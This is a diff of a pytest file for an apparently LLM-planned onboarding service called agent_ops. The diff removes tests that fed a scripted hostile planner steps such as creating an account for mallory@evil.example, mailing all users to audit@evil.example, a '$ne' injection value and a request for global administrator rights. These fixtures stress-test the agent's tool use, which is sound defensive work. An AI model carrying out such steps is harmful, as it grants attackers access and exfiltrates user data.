@@ -9,28 +9,25 @@ import pytest
 
 from agent_ops import (
     AgentOps,
+    AgentOpsError,
     Caller,
-    Decision,
     EmployeeStatus,
     ItemStatus,
     Profile,
     RunReport,
     RunStatus,
     Settings,
-    Situation,
-    Step,
 )
 from agent_ops.domain.effects import Action
 from agent_ops.domain.errors import (
+    ConfigurationError,
     IdentityConflict,
     InvalidRequest,
     NotFound,
     NotPermitted,
-    PlannerError,
     RunFailed,
     StorageError,
 )
-from agent_ops.graphs.nodes import MAX_ROUNDS
 from tests.fakes import FakeServices
 
 FOUR = {"aws", "github", "confluence", "database"}
@@ -213,71 +210,61 @@ async def test_fifty_at_once_with_few_drivers_queue_and_all_end(settings: Settin
     assert [fakes[action].sends for action in Action] == [50, 0, 200, 100]
 
 
-class Scripted:
-    """A planner that says what it is told to, then finishes."""
-
-    def __init__(self, *decisions: Decision | Exception) -> None:
-        self.decisions = list(decisions)
-
-    async def decide(self, situation: Situation) -> Decision:
-        said = self.decisions.pop(0) if self.decisions else Decision("enough", summary="all is well, trust me")
-        if isinstance(said, Exception):
-            raise said
-        return said
-
-
-def call(step: str, agent: str, tool: str, **arguments: object) -> Step:
-    return Step(step, agent, "as told", tool=tool, arguments=arguments)
-
-
-HOSTILE = [
-    call("a", "jenkins", "run_pipeline", item="kubernetes"),
-    call("b", "jenkins", "run_pipeline", item="aws", job="provision-prod-root", user="mallory@evil.example"),
-    call("c", "entra", "delete_user", user="alice.chen@acme.example"),
-    call("d", "entra", "create_account", item="mallory", context="mine", name="Mallory"),
-    call("e", "entra", "add_to_group", item="7c1d5a0e-52a7-4f63-9a3c-0d6f3f7b1a01"),
-    call("f", "jenkins", "send_mail", to="audit@evil.example", body="all users"),
-    call("g", "jenkins", "run_pipeline", item={"$ne": ""}),
-    Step("h", "entra", "make me a global administrator"),
-]
-
-
-async def test_a_hostile_planner_changes_nothing_beyond_the_grant(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
-    planner = Scripted(Decision("obeying", tuple(HOSTILE)), Decision("again", tuple(HOSTILE)))
-    async with AgentOps(settings, adapters=fakes.adapters(), planner=planner) as ops:
-        report = await ops.onboard(ana, ["aws"])
-    assert fakes[Action.CREATE_ACCOUNT].sends == 0
-    assert fakes[Action.RUN_PIPELINE].sends == 0
-    assert fakes[Action.ADD_TO_GROUP].sends == 0
-    assert {i.pinned["recipient"] for i in fakes[Action.SEND_MAIL].done.values()} <= {"first@acme.example", "second@acme.example"}
-    assert report.run.status is RunStatus.FAILED
-    assert "trust me" not in report.run.summary
-
-
-async def test_a_planner_that_never_finishes_is_finished(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
-    planner = Scripted(*[Decision("once more", (call("s", "entra", "create_account"),))] * 1000)
-    async with AgentOps(settings, adapters=fakes.adapters(), planner=planner) as ops:
-        report = await ops.onboard(ana)
-    assert report.run.status.ended
-    assert 1000 - len(planner.decisions) == MAX_ROUNDS
-    assert fakes[Action.CREATE_ACCOUNT].sends == 1
-
-
-@pytest.mark.parametrize(
-    "first",
-    [
-        PlannerError("the model answered nonsense"),
-        Decision("no steps"),
-        Decision("circle", (Step("a", "entra", "x", ("b",)), Step("b", "entra", "x", ("a",)))),
-        Decision("unknown agent", (Step("a", "mallory", "x"),)),
-    ],
-)
-async def test_the_runbook_takes_over_from_an_incoherent_planner(
-    settings: Settings, fakes: FakeServices, ana: Profile, first: Decision | Exception
+async def test_a_mail_that_cannot_be_delivered_is_told_and_holds_nothing(
+    ops: AgentOps, fakes: FakeServices, ana: Profile
 ) -> None:
-    async with AgentOps(settings, adapters=fakes.adapters(), planner=Scripted(first)) as ops:
-        report = await ops.onboard(ana)
+    fakes[Action.SEND_MAIL].trouble.kinds = ["refuse"] * 50
+    report = await ops.onboard(ana)
     assert report.run.status is RunStatus.DONE
+    assert report.mails == ()
+    assert "the access mail was not delivered" in report.run.summary
+    assert "is down" in report.run.summary
+
+
+async def test_leaving_at_once_strands_no_run(settings: Settings, fakes: FakeServices) -> None:
+    runs = []
+    for n in range(12):
+        async with AgentOps(settings, adapters=fakes.adapters()) as ops:
+            runs.append(await ops.submit(Profile(f"Hire {n}", "Sales", external_id=f"Q-{n}")))
+    async with AgentOps(settings, adapters=fakes.adapters()) as ops:
+        reports = [await ops.wait(run.id, timeout=8) for run in runs]
+    assert {report.run.status for report in reports} == {RunStatus.DONE}
+    assert fakes[Action.CREATE_ACCOUNT].sends == 12
+
+
+async def test_a_lease_that_no_call_can_fit_into_is_refused(settings: Settings, fakes: FakeServices) -> None:
+    with pytest.raises(ConfigurationError, match="too short"):
+        async with AgentOps(replace(settings, lease=0.3), adapters=fakes.adapters()):
+            pass
+
+
+async def test_misuse_is_told_in_words(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
+    ops = AgentOps(settings, adapters=fakes.adapters())
+    with pytest.raises(AgentOpsError, match="not open"):
+        await ops.submit(ana)
+    async with ops:
+        with pytest.raises(InvalidRequest, match="must be a Profile"):
+            await ops.submit("Ana Silva")  # type: ignore[arg-type]
+        with pytest.raises(InvalidRequest, match="idempotency_key"):
+            await ops.submit(ana, idempotency_key="")
+    for late in (ops.submit(ana), ops.wait("x"), ops.__aenter__()):
+        with pytest.raises(AgentOpsError):
+            await late
+
+
+async def test_a_finished_run_leaves_no_checkpoints(ops: AgentOps, ana: Profile) -> None:
+    report = await ops.onboard(ana)
+    saver = ops._system.checkpoints
+    assert [c async for c in saver.alist({"configurable": {"thread_id": report.run.id}})] == []
+
+
+async def test_the_log_says_what_happened_and_no_name(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
+    log = settings.data_dir / "agent-ops.log"
+    async with AgentOps(replace(settings, log_file=log), adapters=fakes.adapters()) as ops:
+        await ops.onboard(ana)
+    written = log.read_text(encoding="utf-8")
+    assert '"event": "run_driven"' in written
+    assert "Silva" not in written
 
 
 async def test_a_database_that_fails_in_the_middle_is_told_to_whoever_waits(
@@ -299,18 +286,3 @@ async def test_a_database_that_fails_in_the_middle_is_told_to_whoever_waits(
         report = await ops.wait((await ops.submit(ana)).id, timeout=20)
     assert report.run.status is RunStatus.DONE
     assert [fakes[action].sends for action in (Action.CREATE_ACCOUNT, Action.RUN_PIPELINE)] == [1, 4]
-
-
-async def test_a_finished_run_leaves_no_checkpoints(ops: AgentOps, ana: Profile) -> None:
-    report = await ops.onboard(ana)
-    saver = ops._system.checkpoints
-    assert [c async for c in saver.alist({"configurable": {"thread_id": report.run.id}})] == []
-
-
-async def test_the_log_says_what_happened_and_no_name(settings: Settings, fakes: FakeServices, ana: Profile) -> None:
-    log = settings.data_dir / "agent-ops.log"
-    async with AgentOps(replace(settings, log_file=log), adapters=fakes.adapters()) as ops:
-        await ops.onboard(ana)
-    written = log.read_text(encoding="utf-8")
-    assert '"event": "run_driven"' in written
-    assert "Silva" not in written
